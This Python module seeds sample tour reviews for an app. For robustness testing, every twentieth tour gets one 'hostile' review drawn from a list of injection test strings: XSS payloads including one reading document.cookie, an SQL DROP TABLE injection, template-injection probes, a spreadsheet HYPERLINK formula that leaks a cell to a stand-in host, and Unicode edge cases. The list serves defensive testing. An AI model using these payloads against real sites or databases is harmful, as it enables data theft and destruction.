"""The seeded reviews: what walkers thought of the tours, and what somebody wrote to see what would break.

Pure and always the same, whatever the seed of the tours: all catalogues have tours of the same numbers.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from random import Random

from tourapp.content.seed import TOURS

# Reviews of one tour at most; three on average, and some tours have none.
MOST = 6

# Every so many tours one has a hostile review, which is its newest.
HOSTILE_EVERY = 20

# The first of January 2025, in seconds since the epoch, from which on the reviews were written, and how many
# seconds apart those of one tour are at most.
BEGINNING = 1_735_689_600
GAP = 40 * 86_400

# Accounts that write reviews.
WRITERS = 5_000

# By rating; 4 and 5 are what most walkers give.
PRAISE = (
    "We stopped for coffee twice and the story waited for us. Five stars from the whole family.",
    "The voices are wonderful. I have lived here for ten years and learned something at every stop.",
    "Worked without a network all the way, even in the tunnel under the station.",
    "The best two hours of our trip. Go early, the square is empty before nine.",
)
LIKING = (
    "Lovely walk, although the fourth stop is hidden behind scaffolding at the moment.",
    "Good stories and a sensible route. I would have liked a bench or two.",
    "Very nice. The volume of the music changes a little between stops.",
    "A calm way to see the old streets; bring water in summer.",
)
DOUBT = (
    "Interesting, but the way from stop five to stop six is steep with a pram.",
    "Fine for an afternoon. Some stories are a bit long for children.",
    "The map was right, the opening hours were not.",
)
BLAME = (
    "My phone lost its place twice and the story began again each time.",
    "Too much history, too few cafés.",
    "It rained. Not the app's fault, but still.",
)
TEXTS = {5: PRAISE, 4: LIKING, 3: DOUBT, 2: BLAME, 1: BLAME}
RATINGS = (1, 2, 3, 3, 4, 4, 4, 5, 5, 5, 5)

# What a page, a report or a spreadsheet must show as the text that it is.
HOSTILE = (
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "{{7*7}} ${7*7} {% raw %} #{7*7}",
    '=HYPERLINK("http://tours.example/?leak="&A1,"See the photos")',
    "'; DROP TABLE reviews; --",
    '"><svg onload=alert(1)>',
    "\u202eeltit eht sdaer siht\u202c, and \u2067\u05e9\u05dc\u05d5\u05dd\u2069 in the middle",
    "zero\u200bwidth\u200djoined\ufeff and a\u0301\u0302\u0303\u0304 tall letter",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f3\ufe0f\u200d\U0001f308 \U0001f600"
    * 20,
    "W" * 2_000,
    "A long breath. " * 133,
    "line one\nline two\r\n\ttabbed & <b>bold</b>\n\n\n-- \n<!-- comment",
    "javascript:alert(document.cookie) [a](javascript:alert(1)) ![x](//tours.example/x.png)",
    "]]></text><text>&amp;lt;&#60;script&#62;",
)


@dataclass(frozen=True, slots=True, kw_only=True)
class SeededReview:
    """A review as it is made; `account` counts from 1, `written_at` is seconds since the epoch."""

    tour_id: int
    account: int
    rating: int
    text: str
    written_at: int


def seeded_reviews() -> Iterator[SeededReview]:
    """Yield the reviews of all tours, those of one tour by when they were written."""
    rng = Random(1)  # noqa: S311 - content, not a secret
    for tour_id in range(1, TOURS + 1):
        yield from _reviews(rng, tour_id)


def _reviews(rng: Random, tour_id: int) -> Iterator[SeededReview]:
    written_at = BEGINNING
    for _ in range(int(rng.random() * (MOST + 1))):
        written_at += int(rng.random() * GAP)
        rating = RATINGS[int(rng.random() * len(RATINGS))]
        texts = TEXTS[rating]
        yield SeededReview(
            tour_id=tour_id,
            account=1 + int(rng.random() * WRITERS),
            rating=rating,
            text=texts[int(rng.random() * len(texts))],
            written_at=written_at,
        )
    if tour_id % HOSTILE_EVERY == 0:
        text = HOSTILE[tour_id // HOSTILE_EVERY % len(HOSTILE)]
        yield SeededReview(tour_id=tour_id, account=1, rating=1, text=text, written_at=written_at + 1)
